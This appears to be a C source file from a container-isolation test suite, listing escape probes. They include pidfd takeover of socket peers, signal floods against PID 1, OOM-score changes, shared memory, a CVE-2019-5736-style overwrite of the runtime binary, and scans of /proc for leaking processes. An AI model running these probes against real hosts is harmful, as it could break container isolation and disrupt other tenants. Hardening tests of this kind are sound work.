/* Attacks on processes beside the container: the first process, the host's, those of other containers. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include "attacks.h"

static int connected(const char *path) {
  struct sockaddr_un address = {AF_UNIX};
  strncpy(address.sun_path, path, sizeof address.sun_path - 1);
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  return connect(fd, (struct sockaddr *) &address, sizeof address) < 0 ? -1 : fd;
}
static int reach(const char *path) { return result(connected(path)); }

/* A pidfd of who listens at a socket, by which it could be killed, its descriptors taken, its namespaces joined. */
static int peer(const char *path) {
  int pidfd, socket = connected(path);
  socklen_t size = sizeof pidfd;
  if (socket < 0 || getsockopt(socket, SOL_SOCKET, 77 /* SO_PEERPIDFD */, &pidfd, &size) < 0) return errno;
  if (syscall(424 /* pidfd_send_signal */, pidfd, 0, NULL, 0) == 0) return 0;
  if (syscall(438 /* pidfd_getfd */, pidfd, 0, 0) >= 0) return 0;
  return result(syscall(SYS_setns, pidfd, 0x20000 /* CLONE_NEWNS */));
}

static int own_oom(const char *path) { /* first to die is somebody else */
  int fd = open(path, O_WRONLY);
  return fd < 0 ? errno : result(write(fd, "-1000", 5));
}

static int memory_of(const char *key) { return result(shmget(atoi(key), 0, 0)); }
int share_memory_and_run(char **argv) { /* a segment of System V memory for everybody, until a command has ended */
  int status, segment = shmget(atoi(argv[0]), 4096, IPC_CREAT | 0666);
  pid_t child = fork();
  if (child == 0) { execvp(argv[1], argv + 1); _exit(3); }
  waitpid(child, &status, 0);
  shmctl(segment, IPC_RMID, NULL);
  return segment >= 0 && WIFEXITED(status) ? WEXITSTATUS(status) : 3;
}

static int a_terminal(const char *a) { return isatty(0) || isatty(1) || isatty(2) ? 0 : ENOTTY; }

/* All signals that the first process has to look at come again and again: will it see that it has to end? */
static int flood(const char *count) { /* does not end by itself */
  for (int s = 1; s < 65; s++) signal(s, SIG_IGN);
  signal(SIGCHLD, SIG_DFL);
  for (int i = atoi(count); i > 1 && fork() != 0; i--) { }
  printf("flooding\n");
  for (;;)
    for (int s = 1; s < 17; s++)
      if (s != SIGKILL) kill(1, s);
}
static int command(const char *signal) { return result(kill(1, atoi(signal))); }

/* The file from which somebody who enters is run, written to while it runs and after (CVE-2019-5736): until /tmp/enough is there. */
static int overwrite(const char *called) {
  char path[300], name[256];
  int kept[256], count = 0, error = ESRCH;
  time_t end = time(NULL) + PATIENCE;
  while (time(NULL) < end && access("/tmp/enough", F_OK) < 0) {
    DIR *all = opendir("/proc");
    for (struct dirent *one; all && (one = readdir(all));) {
      snprintf(path, sizeof path, "/proc/%s/exe", one->d_name);
      ssize_t n = one->d_name[0] < '1' || one->d_name[0] > '9' ? -1 : readlink(path, name, sizeof name - 1);
      if (n < (ssize_t) strlen(called) || strncmp(name, called, strlen(called)) != 0) continue;
      int fd = open(path, O_RDONLY), known = 0;
      struct stat new, old;
      if (fd < 0 || fstat(fd, &new) < 0) continue;
      for (int i = 0; i < count; i++) known |= fstat(kept[i], &old) == 0 && old.st_ino == new.st_ino;
      if (!known && count < 256) kept[count++] = fd;
      else close(fd);
    }
    if (all) closedir(all);
    for (int i = 0; i < count; i++) {
      snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
      int fd = open(path, O_WRONLY);
      if (fd >= 0 && pwrite(fd, "#!", 2, 0) == 2) return 0;
      error = errno;
      if (fd >= 0) close(fd);
    }
  }
  if (access("/tmp/enough", F_OK) < 0) return ETIME;
  return count ? error : ENODATA; /* no such file was ever seen */
}

/* Whether a process that is not ours yet, because it is still entering, can be taken over or leads outside by MARKER. */
static int hidden(const char *pid) {
  char path[64], exe[1];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  return readlink(path, exe, sizeof exe) < 0 && errno == EACCES;
}
static int seized(const char *pid) { /* still hidden afterwards: it was not the program already */
  char byte;
  struct iovec local = {&byte, 1}, remote = {(void *) 0x400000, 1};
  int error = hidden(pid) ? result(process_vm_readv(atoi(pid), &local, 1, &remote, 1, 0)) : ESRCH;
  return (error == EFAULT || error == 0) && hidden(pid); /* the same right as to trace it, which would hold it up once it is ours */
}
static int leads_out(const char *pid, const char *marker) {
  char path[8192], exe[4096];
  if (seized(pid)) return 1;
  static const char *const links[] = {"root", "cwd"};
  for (int i = 0; i < 2; i++) {
    snprintf(path, sizeof path, "/proc/%s/%s%s", pid, links[i], marker);
    if (access(path, F_OK) == 0) return 1;
  }
  snprintf(path, sizeof path, "/proc/%s/fd", pid);
  DIR *fds = opendir(path);
  for (struct dirent *fd; fds && (fd = readdir(fds));) {
    snprintf(path, sizeof path, "/proc/%s/fd/%s%s", pid, fd->d_name, marker);
    if (fd->d_name[0] != '.' && access(path, F_OK) == 0) { closedir(fds); return 1; }
  }
  if (fds) closedir(fds);
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  ssize_t n = readlink(path, exe, sizeof exe - 1);
  if (n <= 0) return 0;
  exe[n] = 0;
  if (strncmp(exe, "/usr/", 5) == 0 || strncmp(exe, "/attacks", 8) == 0) return 0; /* has entered: one of us */
  fprintf(stderr, "the file of process %s can be seen: %s\n", pid, exe);
  return 1;
}
static int chase(const char *marker) { /* until /tmp/enough is there */
  time_t end = time(NULL) + PATIENCE;
  while (time(NULL) < end && access("/tmp/enough", F_OK) < 0) {
    DIR *all = opendir("/proc");
    for (struct dirent *one; all && (one = readdir(all));)
      if (one->d_name[0] >= '1' && one->d_name[0] <= '9' && leads_out(one->d_name, marker)) return 0;
    if (all) closedir(all);
  }
  return access("/tmp/enough", F_OK) < 0 ? ETIME : ESRCH;
}

const struct named_attack neighbours_attacks[] = {
  {"reach", reach}, {"peer", peer}, {"oom", own_oom}, {"memory_of", memory_of}, {"terminal", a_terminal}, {"flood", flood}, {"command", command},
  {"overwrite", overwrite}, {"chase", chase}, {NULL, NULL},
};
